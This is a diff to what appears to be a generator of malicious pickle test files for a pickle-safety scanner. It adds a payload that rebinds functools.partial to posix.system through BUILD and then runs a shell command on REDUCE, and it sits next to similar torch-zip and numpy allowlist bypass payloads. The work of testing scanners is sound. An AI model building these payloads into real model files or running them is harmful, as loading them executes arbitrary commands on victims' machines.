@@ -194,6 +194,13 @@ def main():
     W('frame_straddle_torch_zip.pt', torch_zip_with(straddle),
       'torch zip whose data.pkl has the reversed FRAME straddle: torch.load reads data.pkl through '
       'io.BytesIO and runs the hidden call', '3.2.18,3.2.13', loader='torch.load', fmt='pytorch-zip')
+    # functools.partial(int) looks harmless; BUILD runs partial.__setstate__, which swaps in
+    # another callable, and the REDUCE that follows calls it.
+    W('partial_setstate_rebind.pkl',
+      b'\x80\x04' + emit(Call(G('functools', 'partial'), G('builtins', 'int')), 4)
+      + emit((G('posix', 'system'), (SHELL_CMD,), {}, None), 4) + b'b)R.',
+      'functools.partial(int) then BUILD((posix.system, (cmd,), {}, None)) (partial.__setstate__ '
+      'replaces func and args) then REDUCE calls it', '3.1.10,3.2.19')
     # Allowlisted globals that call one of their arguments.
     W('numpy_randomstate_ctor_callthrough.pkl',
       asm(Call(G('numpy.random._pickle', '__randomstate_ctor'), SHELL_CMD, G('posix', 'system'))),
